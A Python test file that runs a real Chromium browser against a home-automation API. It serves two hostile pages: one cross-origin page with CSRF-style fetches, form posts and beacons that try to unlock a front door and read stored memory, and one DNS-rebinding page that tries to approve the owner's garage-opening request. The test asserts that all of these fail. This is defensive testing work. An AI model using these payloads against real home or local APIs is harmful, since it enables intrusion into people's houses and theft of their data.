"""A real browser (Playwright driving Debian's chromium) on hostile pages against the API.

One page is served from another origin (127.0.0.2 on another port) and tries every request a
page can send without a CORS preflight: body-less POSTs, JSON as text/plain, a Blob without a
type, forms, beacons, and reads. Another page is DNS-rebound: its own name resolves to the API's
address, so to the browser the API is same-origin. Meanwhile the owner asks to open the garage
and the rebound page tries to approve that itself. Nothing in the house may change.

Runs inside a network namespace the test creates (the browser never sees a real network).
"""
from __future__ import annotations

import asyncio
import json
import shutil
import tempfile
from pathlib import Path
from typing import Any

from aiohttp import web
from playwright.async_api import async_playwright

from claw.service import Claw
from tests import netns
from tests.anthropic_standin import AnthropicStandIn
from tests.conftest import make_config, serve
from tests.home_fixtures import devices_in

MODULE = "tests.test_browser_attacks"
CHROMIUM = "/usr/lib/chromium/chromium"  # Debian's real binary (/usr/bin/chromium is a wrapper)
ATTACKER = "127.0.0.2"

# Each attempt records what the page could see of the answer; the page then reports to its
# own server (which a real attacker would read).
COMMON_JS = """
const results = {};
async function attempt(name, fn) {
  try {
    const r = await fn();
    results[name] = r === undefined ? "sent" : (r.type === "opaque" ? "opaque" : r.status + " " + await r.text());
  } catch (e) { results[name] = "blocked: " + e.message; }
}
const json = (o) => JSON.stringify(o);
"""

FOREIGN_PAGE = """<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="f1" method="POST" enctype="text/plain" target="sink" action="API/api/tools/HassTurnOff">
  <input name='{"name": "Front Door", "x": "' value='"}'></form>
<form id="f2" method="POST" target="sink" action="API/api/pair"></form>
<script>
COMMON
(async () => {
  const A = "API";
  await attempt("bodyless POST pauses/turns off", () => fetch(A + "/api/tools/HassTurnOff", {method: "POST", mode: "no-cors"}));
  await attempt("JSON as text/plain unlocks", () => fetch(A + "/api/tools/HassTurnOff", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: json({name: "Front Door"})}));
  await attempt("JSON in an untyped Blob unlocks", () => fetch(A + "/api/tools/HassTurnOff", {method: "POST", mode: "no-cors",
      body: new Blob([json({name: "Front Door"})])}));
  await attempt("JSON turns on a light", () => fetch(A + "/api/tools/HassTurnOn", {method: "POST", mode: "no-cors",
      body: new Blob([json({name: "Kitchen Ceiling"})])}));
  await attempt("CORS JSON unlock", () => fetch(A + "/api/tools/HassTurnOff", {method: "POST",
      headers: {"Content-Type": "application/json"}, body: json({name: "Front Door"})}));
  await attempt("PATCH tier", () => fetch(A + "/api/entities/lock.front_door", {method: "PATCH",
      headers: {"Content-Type": "application/json"}, body: json({tier: "write"})}));
  await attempt("read memory", () => fetch(A + "/api/memory"));
  await attempt("read memory with credentials", () => fetch(A + "/api/memory", {credentials: "include"}));
  for (let i = 0; i < 3; i++) {
    await attempt("bodyless pair " + i, () => fetch(A + "/api/pair", {method: "POST", mode: "no-cors"}));
  }
  results["beacons"] = [
    navigator.sendBeacon(A + "/api/tools/HassTurnOff", new Blob([json({name: "Front Door"})], {type: "text/plain"})),
    navigator.sendBeacon(A + "/api/pair"),
  ];
  document.getElementById("f1").submit();
  await new Promise((r) => setTimeout(r, 300));
  document.getElementById("f2").submit();
  await new Promise((r) => setTimeout(r, 500));
  await fetch("/report", {method: "POST", body: json(results)});
})();
</script></body></html>"""

REBOUND_PAGE = """<!doctype html><html><body><script>
COMMON
(async () => {
  await attempt("read memory", () => fetch("/api/memory"));
  await attempt("lower the lock's tier", () => fetch("/api/entities/lock.front_door", {method: "PATCH",
      headers: {"Content-Type": "application/json"}, body: json({tier: "write"})}));
  await attempt("unlock", () => fetch("/api/tools/HassTurnOff", {method: "POST",
      headers: {"Content-Type": "application/json"}, body: json({name: "Front Door"})}));
  await attempt("docs", () => fetch("/openapi.json"));
  // the owner asked to open the garage: find the pending request and approve it
  for (let i = 0; i < 10; i++) {
    await attempt("list confirmations " + i, () => fetch("/api/confirmations"));
    const r = results["list confirmations " + i];
    if (r.startsWith("200")) {
      for (const c of JSON.parse(r.slice(4)).confirmations) {
        await attempt("approve " + c.id, () => fetch("/api/confirmations/" + c.id, {method: "POST",
            headers: {"Content-Type": "application/json"}, body: json({approve: true})}));
      }
    }
    await new Promise((res) => setTimeout(res, 100));
  }
  window.done = results;
})();
</script></body></html>"""


async def scenario_attacks() -> dict[str, Any]:
    assert netns.only_loopback(), "refusing to start a browser outside a test namespace"
    out: dict[str, Any] = {}
    standin = AnthropicStandIn()
    await standin.start()
    reports: list[dict[str, Any]] = []
    with tempfile.TemporaryDirectory() as tmp:
        config = make_config(Path(tmp), standin)
        config.agent.confirm_timeout = 4
        service = Claw(config)
        async with serve(service) as api, devices_in(service.home, service.executor) as small:
            service.store.remember("The safe code is 4321")
            api_url = str(api.base_url).rstrip("/")
            port = api.base_url.port
            attacker = await _attacker_site(FOREIGN_PAGE.replace("API", api_url), reports)
            lights_before = {l.name: l.on for l in small.hue.lights.values()}
            async with async_playwright() as p:
                browser = await p.chromium.launch(executable_path=CHROMIUM, args=[
                    "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                    "--disable-component-update", "--disable-sync", "--no-first-run",
                    f"--host-resolver-rules=MAP rebind.example {api.base_url.host}",
                    # Chromium's own guard for pages reaching local addresses would stop the
                    # rebound page before Claw sees it; older browsers have none. Test Claw's.
                    "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,"
                    "BlockInsecurePrivateNetworkRequests"])
                page = await browser.new_page()
                await page.goto(f"http://{ATTACKER}:{attacker.port}/")
                for _ in range(100):
                    if reports:
                        break
                    await asyncio.sleep(0.05)
                out["foreign"] = reports[0] if reports else "no report"

                # The rebound page: the browser fetched it from "rebind.example:<port>", whose
                # name now points at Claw, so every later request is same-origin.
                rebound = await browser.new_page()
                await rebound.route(f"http://rebind.example:{port}/", lambda route: route.fulfill(
                    content_type="text/html", body=REBOUND_PAGE.replace("COMMON", COMMON_JS)))
                garage = asyncio.create_task(api.post("/api/tools/HassTurnOn", json={"name": "Garage Door"}))
                await rebound.goto(f"http://rebind.example:{port}/")
                await rebound.wait_for_function("window.done !== undefined", timeout=15_000)
                out["rebound"] = await rebound.evaluate("window.done")
                out["garage_action"] = (await garage).json()
                await browser.close()
            await attacker.stop()
            out["door"] = small.ha.states["lock.front_door"]["state"]
            out["garage"] = small.ha.states["cover.garage_door"]["state"]
            out["tier"] = service.home.entities["lock.front_door"].risk_tier
            out["lights_changed"] = [n for n, on in lights_before.items() if small.light(n).on != on]
            out["pair_codes"] = service.store.db["pair_codes"].count
            out["confirmations"] = [r["status"] for r in service.store.db["confirmations"].rows]
    await standin.stop()
    return out


class _Site:
    def __init__(self, runner: web.AppRunner, port: int):
        self.runner = runner
        self.port = port

    async def stop(self) -> None:
        await self.runner.cleanup()


async def _attacker_site(page: str, reports: list[dict[str, Any]]) -> _Site:
    async def index(_: web.Request) -> web.Response:
        return web.Response(text=page.replace("COMMON", COMMON_JS), content_type="text/html")

    async def report(request: web.Request) -> web.Response:
        reports.append(json.loads(await request.text()))
        return web.Response(text="thanks")

    app = web.Application()
    app.router.add_get("/", index)
    app.router.add_post("/report", report)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, ATTACKER, 0)
    await site.start()
    return _Site(runner, runner.addresses[0][1])


def test_hostile_pages_in_a_real_browser_change_nothing():
    assert shutil.which("ip"), "iproute2 is needed for the test namespace"
    with netns.namespace() as ns:
        out = netns.run_in(ns, MODULE, "scenario_attacks", timeout=120)
    foreign, rebound = out["foreign"], out["rebound"]
    assert isinstance(foreign, dict), foreign
    # what the foreign page could read: nothing (blocked by CORS, or opaque)
    for name in ("read memory", "read memory with credentials", "CORS JSON unlock", "PATCH tier"):
        assert foreign[name].startswith("blocked"), (name, foreign[name])
    assert "4321" not in json.dumps(foreign) and "4321" not in json.dumps(rebound)
    # the rebound page is refused by name, whatever it asks
    assert rebound and all(v.startswith("421") for v in rebound.values()), json.dumps(out, indent=1)
    # and nothing in the house changed
    assert out["door"] == "locked" and out["garage"] == "closed"
    assert out["tier"] == "security"
    assert out["lights_changed"] == []
    assert out["pair_codes"] == 0
    assert out["confirmations"] == ["expired"]
    assert not out["garage_action"]["ok"] and "not confirmed" in out["garage_action"]["result"]
